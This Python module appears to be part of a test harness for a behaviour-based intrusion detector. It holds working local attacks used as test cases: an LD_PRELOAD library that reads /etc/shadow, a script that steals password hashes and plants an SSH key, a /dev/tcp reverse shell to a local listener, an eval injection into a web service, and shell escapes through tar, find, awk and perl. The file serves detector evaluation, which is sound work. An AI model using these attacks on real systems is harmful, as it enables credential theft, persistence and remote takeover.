"""Local attacks on the trained programs, and one mimicry.

Each attack is started straight from the harness (no wrapper shell: a wrapper would be a trained
program doing something new, and would be flagged for the harness's sake, not the attack's).
`run.spawn(argv, ...)` starts one root process of the attack; everything it forks belongs to the
attack (see score.Tree).
"""

import os
import socket
import threading
import time
import urllib.parse

EVIL_SO_C = r'''
#include <stdio.h>
#include <stdlib.h>
__attribute__((constructor)) static void implant(void)
{
    char buf[256];
    /* Once: the shell below must not load this library again. */
    unsetenv("LD_PRELOAD");
    FILE *f = fopen("/etc/shadow", "r");
    if (f) {
        if (fgets(buf, sizeof buf, f) == NULL)
            buf[0] = 0;
        fclose(f);
    }
    if (system("id > /dev/null") < 0)
        exit(1);
}
'''

IMPLANT_SH = r'''#!/bin/bash
# Copies the password hashes and plants an ssh key.
cat /etc/shadow > "$HOME/.cache-shadow" 2>/dev/null
mkdir -p "$HOME/.ssh"
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvaluationOnlyNotARealKey0000000000000000 x@y" >> "$HOME/.ssh/authorized_keys"
chmod 600 "$HOME/.ssh/authorized_keys"
'''


def setup(work, bin_dir):
    """Files the attacks need, made before the monitor starts (so making them is no run)."""
    os.makedirs(work, exist_ok=True)
    src = os.path.join(work, "evil.c")
    with open(src, "w") as f:
        f.write(EVIL_SO_C)
    so = os.path.join(work, "evil.so")
    if os.system(f"gcc -shared -fPIC -O2 -o {so} {src}") != 0:
        raise SystemExit("eval: cannot build the LD_PRELOAD library (is gcc installed?)")
    with open(os.path.join(work, "implant.sh"), "w") as f:
        f.write(IMPLANT_SH.replace("#!/bin/bash", f"#!{bin_dir}/bash"))
    os.chmod(os.path.join(work, "implant.sh"), 0o755)
    os.makedirs(os.path.join(work, "victim"), exist_ok=True)
    with open(os.path.join(work, "victim", "notes.txt"), "w") as f:
        f.write("quarterly numbers\n" * 50)


def _listener(commands):
    """A 127.0.0.1 'attacker' that sends commands to whoever connects and reads the answers."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    srv.settimeout(20)

    def serve():
        try:
            c, _ = srv.accept()
            c.settimeout(10)
            c.sendall(commands.encode())
            while c.recv(4096):
                pass
        except OSError:
            pass
        finally:
            srv.close()

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    return srv.getsockname()[1], t


def tar_checkpoint(run, b, w):
    run.wait(run.spawn([f"{b}/tar", "-cf", f"{w}/out.tar", "--checkpoint=1",
                        "--checkpoint-action=exec=id", "-C", w, "victim"]))


def find_exec(run, b, w):
    run.wait(run.spawn([f"{b}/find", f"{w}/victim", "-maxdepth", "0", "-exec", "sh", "-c",
                        "id; uname -a", ";"]))


def awk_system(run, b, w):
    run.wait(run.spawn([f"{b}/awk", 'BEGIN { system("id") }']))


def python_os_system(run, b, w):
    run.wait(run.spawn([f"{b}/python3", "-c", "import os; os.system('id')"]))


def service_eval(run, b, w):
    port = run.free_port()
    # The service the workload runs every day, at the same path: its trained script profile.
    svc = run.spawn([f"{b}/python3", run.service, str(port)])
    url = f"http://127.0.0.1:{port}"
    for _ in range(100):
        if run.wait(run.spawn([f"{b}/curl", "-s", "-o", "/dev/null", f"{url}/uptime"])) == 0:
            break
        time.sleep(0.05)
    run.wait(run.spawn([f"{b}/curl", "-s", f"{url}/calc?expr=6*7"]))
    evil = urllib.parse.quote("__import__('os').system('sh -c \"id; cat /etc/passwd\"')")
    run.wait(run.spawn([f"{b}/curl", "-s", f"{url}/calc?expr={evil}"]))
    svc.terminate()
    run.wait(svc)


def perl_exec(run, b, w):
    run.wait(run.spawn([f"{b}/perl", "-e", 'exec "sh", "-c", "id"']))


def bash_reverse_shell(run, b, w):
    port, t = _listener("id\nuname -a\nexit\n")
    run.wait(run.spawn([f"{b}/bash", "-c",
                        f"exec 5<>/dev/tcp/127.0.0.1/{port}; "
                        "while read -r l <&5; do eval \"$l\" >&5 2>&5; done"]))
    t.join(timeout=10)


def shadow_and_ssh_key(run, b, w):
    home = os.path.join(w, "home")
    os.makedirs(home, exist_ok=True)
    run.wait(run.spawn([f"{w}/implant.sh"], env_extra={"HOME": home}))


def ld_preload_ls(run, b, w):
    run.wait(run.spawn([f"{b}/ls", "-la", w], env_extra={"LD_PRELOAD": f"{w}/evil.so"}))


def mimicry_cat_shadow(run, b, w):
    # Into a pipe, as the workload's cat writes every day (cat between two regular files uses
    # copy_file_range, which the workload never makes it do).
    run.wait(run.spawn([f"{b}/cat", "/etc/shadow"], stdout="pipe"))


ATTACKS = [
    ("tar --checkpoint-action=exec", tar_checkpoint),
    ("find -exec sh", find_exec),
    ("awk system()", awk_system),
    ("python3 -c os.system", python_os_system),
    ("python service eval -> sh", service_eval),
    ("perl -e exec sh", perl_exec),
    ("bash /dev/tcp reverse shell", bash_reverse_shell),
    ("script: /etc/shadow + authorized_keys", shadow_and_ssh_key),
    ("LD_PRELOAD into ls", ld_preload_ls),
]
# Uses only calls cat makes every day (open, read, write): pH is not expected to see it.
MIMICRY = [("mimicry: cat /etc/shadow", mimicry_cat_shadow)]
